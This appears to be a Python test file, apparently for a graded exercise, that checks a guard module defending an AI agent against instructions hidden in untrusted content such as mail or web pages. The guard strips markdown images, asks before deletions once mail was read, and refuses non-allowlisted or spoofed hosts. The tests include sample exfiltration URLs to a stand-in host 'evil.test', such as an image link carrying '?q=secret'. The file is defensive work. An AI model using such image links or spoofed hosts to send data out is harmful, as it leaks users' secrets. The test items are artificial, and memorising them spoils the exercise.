"""Orders hidden in papers meet rules in code."""

from judge import expect, gives, value

FILES = ("guard.py",)


def _decide(tool, args, sources):
    call = {"tool": tool, "args": args}
    return value("guard.py", f"decide({call!r}, {sources!r}, {{'delete', 'send'}}, {{'bank.example', 'docs.example'}})")


def images():
    """an image becomes its alt text, and a link stays"""
    lines = 'strip_images("See ![a cat](https://evil.test/?q=secret) and [this](https://docs.example) ![](x)!")'
    gives("guard.py", lines, "See a cat and [this](https://docs.example) !", hint="exclamation")


def runs():
    """reading runs, whoever was heard; acting runs if only the user was heard"""
    found = [_decide("read", {"n": 1}, ["user", "mail"]), _decide("delete", {"n": 1}, ["user"])]
    expect(found, ["run", "run"], of="decide", hint="only_acts")


def asks():
    """deleting asks first once a mail was read"""
    expect(_decide("delete", {"n": 1}, ["user", "mail", "user"]), "ask", of="decide", hint="any_source")


def refuses():
    """another host is refused, even if its name begins or ends like an allowed one"""
    for url in (
        "https://evil.test/x",
        "http://bank.example.evil.test/x",
        "https://notbank.example/",
        "https://bank.example@evil.test/",
    ):
        expect(_decide("read", {"url": url}, ["user"]), "refuse", of=url, hint="whole_host")


def allowed():
    """an allowed host runs, with a path, a port or capitals"""
    for url in ("https://bank.example/a?b=1", "http://docs.example:8000/", "see HTTPS://Bank.Example now"):
        expect(_decide("read", {"url": url, "n": 3}, ["user"]), "run", of=url, hint="parse")


def anywhere():
    """one bad address among good ones, inside a text, is enough, also for an act"""
    args = {"to": "bob", "text": "look: https://docs.example/ and http://evil.test/?x"}
    expect(_decide("send", args, ["user", "web"]), "refuse", of="decide", hint="each_address")
